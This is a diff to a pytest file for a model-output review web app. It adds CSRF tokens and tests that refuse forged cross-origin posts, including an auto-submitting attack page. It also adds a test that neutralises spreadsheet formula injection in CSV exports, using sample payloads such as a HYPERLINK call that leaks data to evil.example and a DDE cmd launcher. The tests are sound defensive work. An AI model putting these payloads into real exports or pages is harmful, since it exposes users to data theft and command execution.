@@ -10,6 +10,7 @@ import csv
 import io
 import json
 import os
+import re
 import shutil
 import signal
 import sqlite3
@@ -62,7 +63,18 @@ def _client(run_dir, reviewer: str | None = "ann"):
     if reviewer:
         r = client.post("/login", data={"token": TOKEN, "name": reviewer})
         assert r.status_code == 303, r.text
+        client.csrf = _csrf(client.get("/review", follow_redirects=True).text)
     return client
+
+
+def _csrf(page: str) -> str:
+    """The form token on a page, read as a browser's form would send it ("" if there is none)."""
+    found = re.search(r'name="csrf" value="([^"]*)"', page)
+    return found.group(1) if found else ""
+
+
+def _form(client, **changes) -> dict:
+    return {**FULL_FORM, "csrf": client.csrf, **changes}
 
 
 def _ids(run_dir) -> list[str]:
@@ -148,11 +160,11 @@ def test_bad_input_is_4xx_never_500(run_dir):
         (url, {**FULL_FORM, "action": "delete"}, 400, "action must be"),
     ]
     for path, form, status, text in cases:
-        r = client.post(path, data=form)
+        r = client.post(path, data={**form, "csrf": client.csrf})
         assert r.status_code == status and text in r.text, (form, r.status_code, r.text[-300:])
-    r = client.post(url, content=b"a_coherence=1&a_coherence=2", headers={"content-type": "application/x-www-form-urlencoded"})
+    r = client.post(url, content=b"a_coherence=1&a_coherence=2&csrf=" + client.csrf.encode(), headers={"content-type": "application/x-www-form-urlencoded"})
     assert r.status_code == 400 and "more than once" in r.text
-    r = client.post(url, files={"a_note": ("x.txt", b"file")})
+    r = client.post(url, data={"csrf": client.csrf}, files={"a_note": ("x.txt", b"file")})
     assert r.status_code == 400
     r = client.post(url, content=b"--broken\r\n", headers={"content-type": "multipart/form-data; boundary=zzz"})
     assert r.status_code == 400
@@ -160,8 +172,8 @@ def test_bad_input_is_4xx_never_500(run_dir):
     assert r.status_code == 413
     assert not (run_dir / "eval" / "review.sqlite").exists() or _rows(run_dir) == []  # nothing stored from bad input
 
-    assert client.post(url, data=FULL_FORM).status_code == 303
-    again = client.post(url, data=FULL_FORM, headers={"accept": "application/json"})
+    assert client.post(url, data=_form(client)).status_code == 303
+    again = client.post(url, data=_form(client), headers={"accept": "application/json"})
     assert again.status_code == 409 and "already rated" in again.json()["error"]["message"]
     assert len(_rows(run_dir)) == 1
 
@@ -192,7 +204,7 @@ def test_blinding_is_stable_and_revealed_after_rating(run_dir):
     first = ids[0]
     page = client.get(f"/review/{first}").text
     assert "tuned" not in page.split("<main>")[1].split('id="help"')[0]  # nothing names the model before rating
-    client.post(f"/review/{first}", data={**FULL_FORM, "preferred": "B", "b_hallucination": "on", "b_span": "x"})
+    client.post(f"/review/{first}", data=_form(client, preferred="B", b_hallucination="on", b_span="x"))
     r = client.get("/review")
     assert r.headers["location"] == f"/review/{ids[1]}"
     nxt = client.get(f"/review/{ids[1]}?prev={first}").text
@@ -207,7 +219,7 @@ def test_blinding_is_stable_and_revealed_after_rating(run_dir):
 def test_stale_ratings_after_a_new_eval(run_dir):
     client = _client(run_dir)
     first = _ids(run_dir)[0]
-    client.post(f"/review/{first}", data=FULL_FORM)
+    client.post(f"/review/{first}", data=_form(client))
     path = run_dir / "eval" / "predictions.jsonl"
     rows = [json.loads(line) for line in path.read_text().splitlines()]
     rows[0]["tuned"] = "a different answer from a re-run eval"
@@ -215,7 +227,7 @@ def test_stale_ratings_after_a_new_eval(run_dir):
     client = _client(run_dir)  # the app reads predictions at start, as after a restart
     assert client.get("/api/summary").json()["stale"] == 1
     assert client.get("/review").headers["location"] == f"/review/{first}"  # up for rating again
-    assert client.post(f"/review/{first}", data=FULL_FORM).status_code == 303
+    assert client.post(f"/review/{first}", data=_form(client)).status_code == 303
     assert len(_rows(run_dir)) == 1 and client.get("/api/summary").json()["stale"] == 0
 
 
@@ -243,7 +255,7 @@ def test_report_merges_ratings_and_gates_human_win_rate(project, run_dir):
             a_model = store.a_model(eid, reviewer)
             want = "tuned" if i < prefer_tuned else "base"
             side = "A" if a_model == want else "B"
-            form = {**FULL_FORM, "preferred": side}
+            form = _form(client, preferred=side)
             if i == 0:
                 form.update({"a_hallucination": "on", "a_note": "invented"})
             assert client.post(f"/review/{eid}", data=form).status_code == 303
@@ -371,10 +383,11 @@ def test_browser_review_with_keyboard(run_dir):
         # a second reviewer rates the same three, so the summary can show agreement
         with httpx.Client(base_url=base_url, follow_redirects=False) as bob:
             assert bob.post("/login", data={"token": token, "name": "bob"}).status_code == 303
+            bob_csrf = _csrf(bob.get("/review", follow_redirects=True).text)
             store = ReviewStore(run_dir / "eval" / "review.sqlite")
             for eid in ids[:3]:
                 side = "B" if store.a_model(eid, "bob") == store.a_model(eid, "alice") else "A"
-                form = {**FULL_FORM, "preferred": side}
+                form = {**FULL_FORM, "preferred": side, "csrf": bob_csrf}
                 assert bob.post(f"/review/{eid}", data=form).status_code == 303
         driver.get(base_url + "/summary")
         assert "alice & bob" in driver.find_element(By.ID, "agreement").text
@@ -431,7 +444,7 @@ def test_wrong_content_types_oversized_bodies_and_no_cors(run_dir, monkeypatch):
         (client.post("/login", content=b"token=x&name=y", headers={"content-type": ""}), 415, "none"),
         (client.post(url, content=iter([b"a_note=" + b"x" * 70_000]),
                      headers={"content-type": "application/x-www-form-urlencoded"}), 413, "over 64 KiB"),
-        (client.post(url, content=b"\xff\xfe=\x00", headers={"content-type": "application/x-www-form-urlencoded"}),
+        (client.post(url, content=b"\xff\xfe=\x00&csrf=" + client.csrf.encode(), headers={"content-type": "application/x-www-form-urlencoded"}),
          400, ""),
         (client.put(url, data=FULL_FORM), 405, "Method Not Allowed"),
         (client.get("/review/" + "x" * 5000), 404, "no example"),
@@ -494,3 +507,147 @@ def test_slow_clients_time_out_and_never_block_others(run_dir):
         srv.should_exit = True
         thread.join(timeout=10)
         sock.close()
+
+
+# ------------------------------------------------------------------ forged requests (issue 17)
+
+
+@pytest.fixture
+def live(run_dir):
+    """The review app on a real uvicorn bound to 127.0.0.1 (a free port), in a thread."""
+    import threading
+
+    from sftflow.review.app import create_app
+    from sftflow.serve import bind, url_of, uvicorn_server
+
+    sock = bind("127.0.0.1", 0)
+    srv = uvicorn_server(create_app(run_dir, TOKEN), sock)
+    thread = threading.Thread(target=srv.run, kwargs={"sockets": [sock]}, daemon=True)
+    thread.start()
+    for _ in range(300):
+        if srv.started:
+            break
+        time.sleep(0.02)
+    assert srv.started
+    yield url_of(sock)
+    srv.should_exit = True
+    thread.join(timeout=10)
+    sock.close()
+
+
+def _login(url: str, name: str):
+    import httpx
+
+    client = httpx.Client(base_url=url, follow_redirects=False, timeout=30)
+    assert client.post("/login", data={"token": TOKEN, "name": name}, headers={"Origin": url}).status_code == 303
+    return client, _csrf(client.get("/review", follow_redirects=True).text)
+
+
+def test_forged_posts_from_another_port_are_refused(run_dir, live):
+    """A page on 127.0.0.1 at another port gets the reviewer's cookies attached (cookies ignore
+    ports): its POSTs are refused with 403 and store nothing, so the reviewer's own rating of
+    the same example still goes in (no 409)."""
+    import httpx
+
+    first, second = _ids(run_dir)[:2]
+    other = f"http://127.0.0.1:{int(live.rsplit(':', 1)[1]) % 60000 + 1024}"  # another port, same host
+    ann, csrf = _login(live, "ann")
+    _, bob_csrf = _login(live, "bob")  # a valid token, but of another session
+    forged = [
+        ({"Origin": other}, {}),  # what a browser sends for the other page's form
+        ({"Origin": other}, {"csrf": csrf}),  # even with the right token (say it leaked): wrong origin
+        ({"Origin": "null"}, {}),  # a sandboxed frame, or a page with Referrer-Policy no-referrer
+        ({"Referer": other + "/page.html"}, {}),  # no Origin: the Referer decides
+        ({}, {}),  # neither: only the form token can vouch for it
+        ({}, {"csrf": bob_csrf}),
+        ({}, {"csrf": csrf[:-1] + "x"}),  # a near miss (the token is hex)
+    ]
+    for i, (headers, token) in enumerate(forged):
+        r = ann.post(f"/review/{first}", data={**FULL_FORM, "preferred": "B", **token}, headers=headers)
+        assert r.status_code == 403, (i, r.status_code, r.text[-300:])
+        assert "refused" in r.text or "form token" in r.text
+    r = ann.post("/logout", data={}, headers={"Origin": other})
+    assert r.status_code == 403 and "set-cookie" not in r.headers
+    with httpx.Client(base_url=live, follow_redirects=False) as stranger:  # login CSRF: logged in as someone else
+        r = stranger.post("/login", data={"token": TOKEN, "name": "mallory"}, headers={"Origin": other})
+        assert r.status_code == 403 and "set-cookie" not in r.headers
+    assert not (run_dir / "eval" / "review.sqlite").exists() or _rows(run_dir) == []
+
+    r = ann.post(f"/review/{first}", data={**FULL_FORM, "csrf": csrf}, headers={"Origin": live})  # the page's form
+    assert r.status_code == 303, r.text[-300:]
+    r = ann.post(f"/review/{second}", data={**FULL_FORM, "action": "skip", "csrf": csrf})  # no Origin: token vouches
+    assert r.status_code == 303, r.text[-300:]
+    rows = _rows(run_dir)
+    assert [(r["example_id"], r["reviewer"], r["skipped"]) for r in rows] == [(first, "ann", 0), (second, "ann", 1)]
+    assert rows[0]["preferred"] == ("tuned" if rows[0]["a_model"] == "tuned" else "base")  # A, as ann chose
+    assert ann.post("/logout", data={"csrf": csrf}, headers={"Origin": live}).status_code == 303
+    ann.close()
+
+
+def test_browser_form_posted_from_another_port_is_refused(run_dir, live, tmp_path):
+    """The same attack in Chromium: a reviewer logged in to the app opens a page served from
+    127.0.0.1 on another port, which posts a rating form to the app on load."""
+    import http.server
+    import threading
+    from functools import partial
+
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    first = _ids(run_dir)[0]
+    fields = "".join(f'<input name="{k}" value="{v}">' for k, v in {**FULL_FORM, "preferred": "B"}.items())
+    (tmp_path / "attack.html").write_text(
+        f'<form id="f" method="post" action="{live}/review/{first}">{fields}</form>'
+        '<script>document.getElementById("f").submit()</script>')
+    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path))
+    attacker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=attacker.serve_forever, daemon=True).start()
+    driver = _browser()
+    try:
+        driver.set_page_load_timeout(20)
+        wait = WebDriverWait(driver, 10)
+        driver.get(live + "/login")
+        driver.find_element(By.ID, "token").send_keys(TOKEN)
+        driver.find_element(By.ID, "name").send_keys("ann")
+        driver.find_element(By.ID, "login").click()
+        wait.until(lambda d: "/review/" in d.current_url)
+        driver.get(f"http://127.0.0.1:{attacker.server_address[1]}/attack.html")
+        wait.until(lambda d: d.current_url.startswith(live))  # the form went to the app...
+        assert "403" in driver.title and "cross-origin request refused" in driver.find_element(By.ID, "error").text
+        assert not (run_dir / "eval" / "review.sqlite").exists() or _rows(run_dir) == []  # ...and stored nothing
+        driver.get(f"{live}/review/{first}")  # the reviewer's own rating still goes in
+        for name in ("a_coherence", "a_correctness", "b_coherence", "b_correctness"):
+            driver.find_element(By.CSS_SELECTOR, f'input[name="{name}"][value="3"]').click()
+        driver.find_element(By.CSS_SELECTOR, 'input[name="preferred"][value="A"]').click()
+        driver.find_element(By.ID, "submit").click()
+        wait.until(lambda d: "prev=" in d.current_url)
+    finally:
+        driver.quit()
+        attacker.shutdown()
+    assert [(r["example_id"], r["reviewer"]) for r in _rows(run_dir)] == [(first, "ann")]
+
+
+def test_ratings_csv_export_never_holds_a_formula(run_dir, live):
+    """Notes and spans that a spreadsheet would run (=, +, -, @) are exported as text: the CSV
+    cell gets a leading apostrophe; the JSONL export keeps the exact text."""
+    from sftflow.review.store import to_csv
+
+    ann, csrf = _login(live, "ann")
+    hostile = {"a_note": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "b_note": "+1+cmd|' /C calc'!A0",
+               "a_span": "@SUM(A1:A9)", "b_span": "-2+3"}
+    r = ann.post(f"/review/{_ids(run_dir)[0]}", data={**FULL_FORM, **hostile, "csrf": csrf}, headers={"Origin": live})
+    assert r.status_code == 303, r.text[-300:]
+    exported = ann.get("/export/ratings.csv")
+    (row,) = list(csv.DictReader(io.StringIO(exported.text)))
+    (raw,) = [json.loads(line) for line in ann.get("/export/ratings.jsonl").text.splitlines()]
+    ann.close()
+    a, b = raw["a_model"], "base" if raw["a_model"] == "tuned" else "tuned"
+    expected = {f"{a}_note": hostile["a_note"], f"{b}_note": hostile["b_note"], f"{a}_span": hostile["a_span"],
+                f"{b}_span": hostile["b_span"]}
+    for column, text in expected.items():
+        assert raw[column] == text and row[column] == "'" + text, column
+    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert row[f"{a}_coherence"] == "4"  # numbers stay numbers
+    # tab and carriage return can start a formula too (notes typed in the page are stripped, so straight to the store)
+    (tab, cr) = list(csv.DictReader(io.StringIO(to_csv([{**raw, "tuned_note": "\t=1+1"}, {**raw, "tuned_note": "\r=1+1"}]))))
+    assert tab["tuned_note"] == "'\t=1+1" and cr["tuned_note"] == "'\r=1+1"
